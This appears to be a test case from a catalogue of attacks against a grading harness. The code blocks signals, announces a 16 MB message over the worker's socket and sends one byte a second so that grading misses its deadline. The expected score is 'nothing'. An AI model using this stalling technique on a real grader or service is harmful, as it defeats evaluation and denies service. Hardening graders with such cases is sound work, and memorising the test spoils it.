# attack: message_that_never_comes_to_its_end
# kind: exhaust
# tries: announces a message of sixteen megabytes over the worker's socket and sends one byte of it a second
# seen: grading does not end in time
# deserves: nothing
# extra: before 3.2a
# %%
import signal, time

signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
connection = fit._session.channel.connection
connection.sendall((16 * 2**20).to_bytes(4, "big"))
begun = time.monotonic()
# longer than the deadline of any test, and yet not for ever
while time.monotonic() - begun < 200:
    connection.send(b"\0")
    time.sleep(1)
